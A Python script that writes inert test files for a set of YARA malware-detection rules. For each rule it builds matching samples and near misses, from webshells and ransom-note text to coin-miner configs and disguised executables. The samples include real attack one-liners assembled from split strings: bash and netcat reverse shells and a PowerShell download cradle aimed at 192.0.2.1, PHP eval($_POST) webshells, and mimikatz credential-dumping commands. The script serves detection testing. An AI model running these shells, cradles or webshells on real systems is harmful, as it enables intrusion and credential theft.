#!/usr/bin/env python3
"""Harmless samples for the YARA rules: `python samples.py FOLDER` writes FOLDER/<rule>/{fires,quiet}_*.

Nothing here does anything: words that a rule looks for, in the frame it asks for, and near misses. Telling words are
put together when the script runs, so that no scanner takes the script itself for what it describes.
"""

import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(62) + b"\0" * 200
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
JAVA = bytes.fromhex("aced0005737200")
BASE64 = "QUJD" * 30
Samples = Mapping[str, Mapping[str, bytes]]


def j(*parts: str) -> str:
    return "".join(parts)


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


EICAR = j("X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STAND", "ARD-ANTIVIRUS-", "TEST-FILE!$H+H*").encode()
PS = j("power", "shell")
WSCRIPT = j("WScript", ".Shell")
XMLHTTP = j("MSXML2", ".XMLHTTP")
STREAM = j("ADODB", ".Stream")
SEKURLSA = j("sekur", "lsa::")
NOTE = j(
    "All of your important files have been en",
    "crypted. To de",
    "crypt them send bit",
    "coin to the address below.",
)
FUNCTORS = j("org.apache.commons.", "collections.functors.")


def samples() -> Samples:
    return {
        "eicar_test_file": {
            "fires.com": EICAR,
            "fires_after_blanks.txt": b" " * 40 + EICAR,
            "quiet_quoted_later.txt": b"The file begins with these words, and here it is told of: " * 3
            + EICAR,
            "quiet_cut.txt": EICAR[:-10],
        },
        "webshell_php_request_executed": {
            "fires.php": j("<?php ", "ev", "al($_PO", "ST['x']); ?>").encode(),
            "fires_decoded.php": j("<?php @as", "sert(base64_", "decode($_REQ", "UEST['c'])); ?>").encode(),
            "fires_short.php": j("<?= sys", "tem($_G", "ET['cmd']) ?>").encode(),
            "quiet_echo.php": b"<?php echo htmlspecialchars($_GET['name']); ?>",
            "quiet_system_of_its_own.php": b"<?php system('uptime'); $name = $_GET['name']; ?>",
            "quiet_manual.txt": j("Never write ev", "al($_PO", "ST['x']) in a page.").encode(),
        },
        "webshell_jsp_command": {
            "fires.jsp": j(
                "<% Runtime.getRun", "time().ex", "ec(request.getPara", 'meter("c")); %>'
            ).encode(),
            "fires_builder.jsp": j(
                "<%@ page %><% new Process", "Builder(request.getPara", 'meter("c")).start(); %>'
            ).encode(),
            "quiet_form.jsp": b'<%= request.getParameter("name") %>',
            "quiet.java": j("Runtime.getRun", "time().ex", 'ec("uptime"); // no page').encode(),
        },
        "webshell_aspx_command": {
            "fires.asp": j("<% ev", 'al request("x") %>').encode(),
            "fires.aspx": j("<% Process.St", 'art("cm', 'd.exe", "/c " + Request["c"]); %>').encode(),
            "quiet_form.aspx": b'<% Response.Write(Server.HtmlEncode(Request["name"])); %>',
            "quiet_process.aspx": j("<% Process.St", 'art("report.exe"); %>').encode(),
        },
        "powershell_encoded_dropper": {
            "fires.bat": j(PS, " -nop -w hidden -e", "nc ", BASE64).encode(),
            "fires_cradle.cmd": j(
                PS, " -w hidden i", "ex (New-Object Net.WebClient).Download", "String('http://192.0.2.1/a')"
            ).encode(),
            "fires_wide.txt": wide(j(PS, ".exe -WindowStyle Hidden -Encoded", "Command ", BASE64)),
            "quiet_encoded_only.bat": j(PS, " -e", "nc ", BASE64).encode(),
            "quiet_manual.md": j(
                PS, " -NoProfile -ExecutionPolicy Bypass, then i", "ex of what Download", "String brought"
            ).encode(),
        },
        "office_macro_runs_shell": {
            "fires.doc": OLE
            + wide("_VBA_PROJECT")
            + j("Auto", "Open CreateObject ", WSCRIPT, " ", PS).encode(),
            "fires_workbook.xls": OLE + j("Attribut Workbook_", "Open CreateObject ", XMLHTTP).encode(),
            "quiet_sums.xls": OLE + wide("_VBA_PROJECT") + b"Workbook_Open Range Sum",
            "quiet_text.txt": j("_VBA_PROJECT Auto", "Open CreateObject ", WSCRIPT).encode(),
        },
        "script_downloads_and_runs": {
            "fires.vbs": j(
                'Set h = CreateObject("',
                XMLHTTP,
                '")\nSet s = CreateObject("',
                STREAM,
                '")\ns.SaveTo',
                'File "a"\nCreateObject("',
                WSCRIPT,
                '").Ru',
                'n "a"',
            ).encode(),
            "fires_wide.js": wide(
                j(
                    'new ActiveXObject("',
                    XMLHTTP,
                    '"); new ActiveXObject("',
                    STREAM,
                    '").SaveTo',
                    'File("a"); new ActiveXObject("',
                    WSCRIPT,
                    '").Ru',
                    'n("a")',
                )
            ),
            "quiet_fetch.vbs": j(
                'Set h = CreateObject("', XMLHTTP, '")\nh.Open "GET", "http://192.0.2.1/"'
            ).encode(),
            "quiet_run.vbs": j('CreateObject("', WSCRIPT, '").Ru', 'n "notepad"').encode(),
        },
        "elf_coin_miner": {
            "fires": ELF + j("strat", "um+tcp://pool.example:3333 random", "x donate", "-level").encode(),
            "quiet_text": j("strat", "um+tcp://pool.example:3333 random", "x donate", "-level").encode(),
            "quiet_proxy": ELF + j("strat", "um+tcp://").encode(),
        },
        "coin_miner_configuration": {
            "fires.json": j(
                '{"donate-level": 1, "huge-pages": true, "pools": [{"algo": "r',
                'x/0", "url": "pool.example:3333", "user": "4',
                "A" * 94,
                '"}]}',
            ).encode(),
            "quiet_database.json": b'{"pools": [{"url": "db.example:5432", "user": "web", "size": 4}]}',
            "quiet_no_pool.json": b'{"huge-pages": true, "algo": null, "donate-level": 0}',
        },
        "lnk_runs_command": {
            "fires.lnk": LNK + wide(j("C:\\Windows\\System32\\cmd", ".exe /c start http://192.0.2.1/a.hta")),
            "fires_wide.lnk": LNK + wide(j(PS, " -w hidden -nop")),
            "quiet_program.lnk": LNK + wide("C:\\Program Files\\Editor\\editor.exe"),
            "quiet_console.lnk": LNK + wide("C:\\Windows\\System32\\cmd.exe"),
        },
        "hta_runs_code": {
            "fires.hta": j(
                '<hta:application id="a"><scr', 'ipt>CreateObject("', WSCRIPT, '")</script>'
            ).encode(),
            "fires_hidden.html": j(
                "<scr", 'ipt>window.moveTo(-2000, 0); new ActiveXObject("', WSCRIPT, '")</script>'
            ).encode(),
            "quiet_form.hta": b'<hta:application id="a"><script>document.title = "form"</script>',
            "quiet_page.html": j("<scr", 'ipt>// about CreateObject("', WSCRIPT, '")</script>').encode(),
        },
        "ransom_note": {
            "fires.txt": NOTE.encode() + b" Do not rename files.",
            "fires_zh.txt": j(
                "您的文件已被加", "密。如需解密请支付比特", "币。联系 help@proton", "mail.com"
            ).encode(),
            "quiet_backup.txt": b"Your files were encrypted before they were stored. Restore them by password.",
            "quiet_letter.txt": b"We accept bitcoin. Do not modify the order number.",
        },
        "java_deserialization_payload": {
            "fires.ser": JAVA + j(FUNCTORS, "Invoker", "Transformer").encode(),
            "fires_beans.ser": JAVA
            + j(
                "java.util.PriorityQueue org.apache.commons.beanutils.BeanComparator ",
                "com.sun.org.apache.xalan.internal.xsltc.trax.Templates",
                "Impl",
            ).encode(),
            "quiet_queue.ser": JAVA + b"java.util.PriorityQueue java.lang.Integer",
            "quiet_jar_listing.txt": j(FUNCTORS, "Invoker", "Transformer").encode(),
        },
        "script_reverse_shell": {
            "fires.sh": j("ba", "sh -i >& /dev/", "tcp/192.0.2.1/4444 0>&1").encode(),
            "fires_netcat.sh": j("n", "c 192.0.2.1 4444 -", "e /bin/sh").encode(),
            "fires.py": j(
                "s=socket.soc",
                "ket();s.con",
                'nect(("192.0.2.1",4444));os.du',
                "p2(s.fileno(),0);subprocess.call(['sh'])",
            ).encode(),
            "quiet_probe.sh": b"timeout 1 bash -c 'echo > /dev/tcp/192.0.2.1/443' && echo open",
            "quiet_copy.sh": b"tar c data | nc 192.0.2.1 9000",
        },
        "credential_dumper_mimikatz": {
            "fires.exe": PE + j("mimi", "katz ", SEKURLSA, "logonpasswords").encode(),
            "fires.ps1": j("privilege::", "debug ", SEKURLSA, "logonpasswords lsa", "dump::sam").encode(),
            "quiet_report.txt": j("They ran ", SEKURLSA, "logonpasswords once.").encode(),
            "quiet_name.exe": PE + j("mimi", "katz").encode(),
        },
        "beacon_stager": {
            "fires.bin": bytes.fromhex("fce8" + "8200000060" + "89e5" + "31c0" + "648b50" + "30") + bytes(64),
            "fires.dll": PE + j("Reflective", "Loader bea", "con.x64.dll").encode(),
            "fires_config.bin": bytes(100)
            + bytes.fromhex("69686968696b6968" + "696b69686 96b6b3a".replace(" ", "") + "696a696b696d"),
            "quiet_loader.dll": PE + j("Reflective", "Loader").encode(),
            "quiet_late.bin": bytes(5000) + bytes.fromhex("fce8820000006089e531c0648b5030"),
        },
        "pdf_launches_program": {
            "fires.pdf": j(
                "%PDF-1.4\n<< /OpenAction << /S /Lau", "nch /Win << /F (cm", "d.exe) /P (/c calc) >> >> >>"
            ).encode(),
            "fires_export.pdf": j(
                "%PDF-1.4\n<< /OpenAction << /S /Java",
                "Script /JS (this.exportData",
                'Object({cName: "a", nLau',
                "nch: 2})) >> >>",
            ).encode(),
            "quiet_form.pdf": b"%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (this.print()) >> >>",
            "quiet_chapter.pdf": b"%PDF-1.4\n<< /Title (Launch of the cmd.exe tutorial) >>",
        },
        "program_disguised_as_document": {
            "fires_invoice.pdf.exe": PE,
            "fires_photo\u202egpj.exe": PE,
            "fires_report.docx .lnk": LNK,
            "quiet_setup.exe": PE,
            "quiet_tool-1.2.exe": PE,
            "quiet_invoice.pdf.exe": b"not a program, only its name",
        },
    }


def written(folder: Path) -> Iterator[Path]:
    for rule, files in samples().items():
        for name, content in files.items():
            path = folder / rule / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
            yield path


if __name__ == "__main__":
    print(f"{len(list(written(Path(sys.argv[1]))))} samples")
